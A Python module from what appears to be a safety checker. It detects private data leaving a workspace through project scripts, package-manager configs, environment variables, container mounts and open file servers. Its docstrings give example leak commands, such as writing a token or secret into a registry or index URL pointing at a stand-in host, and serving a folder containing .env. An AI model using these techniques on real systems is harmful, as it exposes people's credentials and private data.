"""Private data handed on, for ``safety.carried``'s walk: to the workspace's own code that talks to the network
(``npm run send -- "$d"``, ``make upload DATA="$d"``, ``python3 tool.py "$d"`` whose module posts), to a container,
and to a sender's config (``curl -K c.cfg`` written with the value, ``npm config set registry "…/$d"``, a
``PIP_INDEX_URL`` that holds it). Git is ``safety.carried_git``'s; make's own functions ``safety.carried_make``'s.

What a project's code does is read here only as far as it can be read without running it: the script a package
manager's script names (and the relative modules it imports), a Makefile's text, a Python or Node script and its
relative imports. Code past that (a test runner's plugins, a compiled program) is other checks' to judge.
"""

from __future__ import annotations

import json
import os
import posixpath
import re
from typing import TYPE_CHECKING

from macrohard.safety import lazyre
from macrohard.safety import rules_data as R

if TYPE_CHECKING:
    from macrohard.safety.carried_walk import _Walk

_PACKAGE_RUNNERS = frozenset({"npm", "yarn", "pnpm", "bun"})
_MAKES = frozenset({"make", "gmake"})
_CODE_FILE = lazyre.compile(r"[\w./-]+\.(?:m?js|cjs|ts|py|sh|rb|pl)\b")
_PY_IMPORT = lazyre.compile(r"^\s*(?:from\s+(\.?[\w.]+)\s+import|import\s+([\w., ]+))", re.M)
_JS_IMPORT = lazyre.compile(r"""(?:require\(\s*|from\s+|import\s*\(\s*)['"](\.{1,2}/[^'"]+)['"]""")
_MAX_FILES = 24
_NODE_RC = (".npmrc", ".yarnrc", ".yarnrc.yml", "bunfig.toml")
_RC = {"curl": (".curlrc", "_curlrc"), "wget": (".wgetrc",), "npm": _NODE_RC, "npx": _NODE_RC, "yarn": _NODE_RC,
       "pnpm": _NODE_RC, "bun": _NODE_RC, "pip": ("pip.conf", "pip.ini"), "pip3": ("pip.conf", "pip.ini"),
       "twine": (".pypirc",), "uv": ("uv.toml", "pip.conf"), "poetry": ("auth.toml", "config.toml"),
       "cargo": ("config.toml", "config", "credentials.toml"), "gem": (".gemrc", "credentials"),
       "docker": ("config.json",), "ssh": ("config",), "scp": ("config",), "composer": ("auth.json", "config.json"),
       "go": ("env", "go.mod"), "conda": (".condarc",)}
for _prog, _project in (("npm", "package.json"), ("yarn", "package.json"), ("pnpm", "package.json"),
                        ("bun", "package.json"), ("cargo", "Cargo.toml"), ("composer", "composer.json"),
                        ("uv", "pyproject.toml"), ("poetry", "pyproject.toml")):
    _RC[_prog] += (_project,)  # the project file it fetches what it names from
# `npm config set K V`, `pip config set`, `go env -w K=V`, `gem sources --add URL`: the file each writes
_CONFIG_SET = {"npm": "~/.npmrc", "pnpm": "~/.npmrc", "bun": "~/.npmrc", "yarn": "~/.yarnrc",
               "pip": "~/.config/pip/pip.conf", "pip3": "~/.config/pip/pip.conf", "uv": "~/.config/pip/pip.conf",
               "poetry": "~/.config/pypoetry/config.toml", "conda": "~/.condarc", "gem": "~/.gemrc",
               "go": "~/.config/go/env", "composer": "~/.config/composer/config.json"}
_SETS = frozenset({"config", "set", "env", "sources", "c"})
_PIP_FILES = ("-r", "--requirement", "-c", "--constraint")
_NPM_FILES = ("--userconfig", "--globalconfig")
# options whose value is a file the program reads its settings or what to fetch from
_READS_FILE = {"pip": _PIP_FILES, "pip3": _PIP_FILES, "uv": _PIP_FILES, "npm": _NPM_FILES, "npx": _NPM_FILES,
               "pnpm": _NPM_FILES, "yarn": _NPM_FILES, "cargo": ("--config",), "go": ("-modfile",)}
# variables a package manager or other sender reads as its settings (an index, a registry, a proxy, a token)
_CONFIG_ENV = lazyre.compile(r"(?:PIP|UV|POETRY|TWINE|NPM_CONFIG|YARN|PNPM|BUN|CARGO|GEM|BUNDLE|COMPOSER|CONDA|DOCKER|HELM|"
                         r"RSYNC|HF|HUGGINGFACE)_|GIT_(?:SSH|PROXY|CONFIG|ASKPASS)|GO(?:PROXY|PRIVATE|NOPROXY|NOSUMDB|"
                         r"SUMDB|FLAGS|INSECURE)$|WGETRC$|CURL_HOME$", re.I)  # (not a token git never reads: GIT_TOKEN)
_MAKE_DYNAMIC = lazyre.compile(r"^\s*-?include\b|\$\((?:eval|call)\b|^[^\t#=\n]*%[^=\n]*:|^[^\t#\n]*\$[({][^=\n]*:",
                           re.M)  # (within a line: `Y = $(X)` then `up:` on the next is no computed rule)
_MAKE_RULE = lazyre.compile(r"^([^\s:=#][^:=]*?)\s*::?(?!=)(.*)$")


def runs_network(w: _Walk, prog: str, argv: list[str]) -> tuple[str, str]:
    """The workspace file, run by this command, whose code talks to the network ("" if none found), and what
    private data an exported variable the code names holds (``export DATA=$d; make upload``)."""
    from macrohard.safety.carried_programs import _NET_CODE, _RUNS_SENDER

    args = argv[1:]
    texts: list[tuple[str, str]] = []
    if prog in _PACKAGE_RUNNERS:
        texts = _package_script(w, args)
    elif prog in _MAKES:
        at = next((b for a, b in zip(args[:-1], args[1:], strict=True) if a == "-f"), "")
        into = next((b for a, b in zip(args[:-1], args[1:], strict=True) if a in ("-C", "--directory")), "")
        goals = [a for a in args if not a.startswith("-") and "=" not in a and a not in (at, into)]
        for name in ([at] if at else ["GNUmakefile", "makefile", "Makefile"]):
            if (text := _read(w, posixpath.join(into, name))) is not None:
                texts = [(name, _make_reached(text, goals))]
                break
    elif prog in R.INTERPRETERS:
        ops = [a for a in args if not a.startswith("-")]
        if "-m" in args and args.index("-m") + 1 < len(args):
            texts = _with_imports(w, args[args.index("-m") + 1].replace(".", "/") + ".py")
        elif ops and not any(a in ("-c", "-e", "-E", "-r") for a in args):
            texts = _with_imports(w, ops[0])
    net = next((name for name, text in texts if _NET_CODE.search(text) or _RUNS_SENDER.search(text)), "")
    held = [v for v in w.exported if w.vars.get(v)] if net else []
    read = next((f"{w.vars[v]} (exported as ${v})" for v in held for _, text in texts
                 if re.search(rf"(?<![\w$]){re.escape(v)}(?!\w)", text)), "")
    return net, read


def _make_reached(text: str, goals: list[str]) -> str:
    """A Makefile's text without the recipes of the rules ``make GOALS`` does not reach (its variables and
    everything else kept); the whole text when it computes rules (``include``, ``$(eval``, patterns)."""
    if _MAKE_DYNAMIC.search(text):
        return text
    rules: dict[str, list[str]] = {}
    owner: list[int] = []  # for each line: the index of the rule it is a recipe line of (-1: not one)
    heads: list[list[str]] = []
    current = -1
    for line in text.splitlines():
        if line.startswith("\t") and current >= 0:
            owner.append(current)
            continue
        m = _MAKE_RULE.match(line)
        if m:
            heads.append(m.group(1).split())
            current = len(heads) - 1
            for t in heads[-1]:
                rules.setdefault(t, []).extend(m.group(2).split(";")[0].split())
        elif line.strip() and not line.startswith("#"):
            current = -1
        owner.append(-1)
    first = next((h[0] for h in heads if h and not h[0].startswith(".")), "")
    todo, reached = list(goals or [first]), set()
    while todo:
        t = todo.pop()
        if t not in reached:
            reached.add(t)
            todo += rules.get(t, [])
    keep = {i for i, h in enumerate(heads) if reached & set(h)}
    return "\n".join(line for line, o in zip(text.splitlines(), owner, strict=True) if o < 0 or o in keep)


def _package_script(w: _Walk, args: list[str]) -> list[tuple[str, str]]:
    """``npm test``, ``npm run X``, ``yarn X``: the script's text (with its pre/post scripts) and the files it names."""
    ops = [a for a in args if not a.startswith("-")]
    if not ops:
        return []
    name = ops[1] if ops[0] in ("run", "run-script") and len(ops) > 1 else ops[0]
    name = {"t": "test", "tst": "test"}.get(name, name)
    try:
        scripts = json.loads(_read(w, "package.json") or "{}").get("scripts") or {}
    except (ValueError, AttributeError):
        return []
    if not isinstance(scripts, dict):
        return []
    out = []
    for key in (f"pre{name}", name, f"post{name}"):
        text = scripts.get(key)
        if isinstance(text, str):
            out.append((f"package.json's {key} script", text))
            for m in _CODE_FILE.finditer(text):
                out += _with_imports(w, m.group(0))
    return out[:_MAX_FILES]


def _with_imports(w: _Walk, path: str) -> list[tuple[str, str]]:
    """A script and the workspace modules it imports, and theirs (``from netlib import post``, ``require('./x')``),
    at most ``_MAX_FILES`` files."""
    out: list[tuple[str, str]] = []
    todo, seen = [path], set()
    while todo and len(out) < _MAX_FILES:
        path = todo.pop(0)
        if path in seen or (text := _read(w, path)) is None:
            continue
        seen.add(path)
        out.append((path, text))
        here = posixpath.dirname(path)
        if path.endswith(".py"):
            names = [n.strip().split(" ")[0].lstrip(".").replace(".", "/") for m in _PY_IMPORT.finditer(text)
                     for n in (m.group(1) or m.group(2)).split(",")]
            todo += [posixpath.join(here, p) for n in names if n for p in (f"{n}.py", f"{n}/__init__.py")]
        else:
            todo += [posixpath.normpath(posixpath.join(here, m.group(1) + ext)) for m in _JS_IMPORT.finditer(text)
                     for ext in ("", ".js", ".ts", "/index.js")]
    return out


def _read(w: _Walk, word: str) -> str | None:
    from macrohard.safety.carried_programs import _script

    return _script(w, word)


def mounted(w: _Walk, prog: str, argv: list[str]) -> str:
    """Private files a container is given (``docker run --env-file .env``, ``-v "$PWD/.env:/e"``): what it runs
    reads them."""
    if prog not in ("docker", "podman") or not {"run", "exec", "create"} & set(argv[1:3]):
        return ""
    values = [b for a, b in zip(argv[1:-1], argv[2:], strict=True) if a in ("--env-file", "-v", "--volume", "--mount")]
    values += [a.split("=", 1)[1] for a in argv[1:] if a.startswith(("--env-file=", "--volume=", "--mount="))]
    for v in values:
        src = next((p[len("source="):] for p in v.split(",") if p.startswith(("source=", "src="))), v.split(":")[0])
        if why := w.path_taint(src.removeprefix("src=")):
            return why
    return ""


def rc_files(w: _Walk, prog: str) -> str:
    """A config file the program reads by default (``.npmrc``, ``.curlrc``, ``pip.conf`` …) written with private
    data: ``echo "//registry/:_authToken=$d" > .npmrc`` then ``npm install`` sends it to that registry."""
    names = _RC.get(prog, ())
    return next((why for path, why in w.files.items() if posixpath.basename(path) in names), "") if names else ""


def requirements(w: _Walk, prog: str, argv: list[str]) -> str:
    """A requirements, constraints or config file a package manager is told to read, written with private data
    (an index URL that holds it: ``echo "--index-url https://x/$d" > r.txt; pip download -r r.txt``)."""
    opts = _READS_FILE.get(prog, ())
    names = [b for a, b in zip(argv[1:-1], argv[2:], strict=True) if a in opts]
    names += [a.split("=", 1)[1] for a in argv[1:] if a.split("=", 1)[0] in opts and "=" in a]
    return next((why for n in names if "$" not in n and (why := w.files.get(w.where(n), ""))), "")


def configured(w: _Walk, prog: str, argv: list[str], taints: list[str]) -> None:
    """A package manager's settings written with private data (``npm config set registry "https://x/$d"``): the
    file it writes carries it, for ``rc_files`` when it next fetches."""
    if prog in _CONFIG_SET and len(argv) > 1 and argv[1] in _SETS and (why := next((t for t in taints[2:] if t), "")):
        w.files[w.where(_CONFIG_SET[prog])] = why


def config_env(w: _Walk, prog: str) -> str:
    """Private data in a variable the program reads as a setting (``PIP_INDEX_URL="https://x/$d" pip download``,
    ``export GOPROXY=…``), given on its own line or exported."""
    held = [*((v, why) for v, why in w.env.items() if why), *((v, w.vars[v]) for v in w.exported if w.vars.get(v))]
    held += [(v, why) for v, path in w.static.items() if "/" in path or "." in path  # `PIP_CONFIG_FILE=/tmp/c`
             if _CONFIG_ENV.match(v) and (why := w.files.get(w.where(path), ""))]  # a file written with it
    return next((f"{why} (${name}, which {prog} reads as a setting)" for name, why in held if _CONFIG_ENV.match(name)),
                "")


def config(w: _Walk, prog: str, argv: list[str]) -> str:
    """What private data the config file a sender is told to read was written with (``curl -K c.cfg``)."""
    if prog == "curl":
        names = [b for a, b in zip(argv[1:-1], argv[2:], strict=True) if a in ("-K", "--config")]
        names += [a[9:] for a in argv[1:] if a.startswith("--config=")] + [a[2:] for a in argv[1:]
                                                                           if a.startswith("-K") and len(a) > 2]
    elif prog == "wget":
        names = [a[9:] for a in argv[1:] if a.startswith("--config=")]
    else:
        return ""
    # a file written with private data; a private file itself (`curl -K .env`) the analysis asks about
    return next((why for n in names if "$" not in n and (why := w.files.get(w.where(n), ""))), "")


def served(w: _Walk, prog: str, argv: list[str]) -> None:
    """A file server over a directory that holds private data (``cp .env public/; python3 -m http.server``, or
    the workspace's own ``.env``): with the network on, whoever reaches its port reads it. Not recursive: the
    files the session copied anywhere under it, and the directory's own entries."""
    args = argv[1:]
    at = ""
    if prog.startswith("python") and any(m in args for m in ("http.server", "SimpleHTTPServer")):
        at = next((b for a, b in zip(args[:-1], args[1:], strict=True) if a in ("-d", "--directory")), ".")
    elif prog == "php" and "-S" in args:
        at = next((b for a, b in zip(args[:-1], args[1:], strict=True) if a == "-t"), ".")
    elif prog in ("http-server", "serve", "npx", "busybox", "ruby") and ("httpd" in " ".join(args) or prog != "ruby"):
        ops = [a for a in args if not a.startswith("-") and a not in ("http-server", "serve", "httpd", "--yes")
               and not a.isdigit()]
        at = ops[0] if ops and prog != "busybox" else next((b for a, b in zip(args[:-1], args[1:], strict=True) if a == "-h"), ".")
        if prog in ("npx", "busybox") and not {"http-server", "serve", "httpd"} & set(args):
            return
    bind = next((b for a, b in zip(args[:-1], args[1:], strict=True) if a in ("-b", "--bind", "-S", "-a", "--address")), "")
    if not at or not w.online or "$" in at or re.match(r"(localhost|127\.|::1|\[::1\])", bind):
        return  # bound to this machine: nobody else reaches it
    root = w.where(at).rstrip("/") + "/"
    why = next((why for path, why in w.files.items() if path.startswith(root)), "")
    try:
        names = sorted(os.listdir(root))[:500] if not why else []
    except OSError:
        names = []
    why = why or next((why for n in names if (why := w.private(root + n))), "")
    if not why:  # rt58: a file there whose text is a credential, whatever it is called (`token`: `sk-…`)
        from macrohard.safety.flows import credential_file

        why = next((f"the text of {n} (a credential)" for n in names[:200] if credential_file(root + n)), "")
    if not why:  # rt61: a table of people there (`cp customers.csv public/`), not a chart's prices or a manifest
        from macrohard.safety.secret_files import personal_table

        why = next((f"{n} (a table holding {what})" for n in names[:200] if (what := personal_table(root + n))), "")
    if why:
        w.sends.append(f"{prog} serves {at} to the network, and {why} is there (bind it to 127.0.0.1, or serve a "
                       "folder without private files)")


def loopback(argv: list[str]) -> bool:
    """Every address the words name is this machine's."""
    hosts = [m.group("host").strip("[]").lower() for a in argv for m in R.URL.finditer(a)]
    return bool(hosts) and all(h in ("localhost", "::1") or h.startswith("127.") for h in hosts)
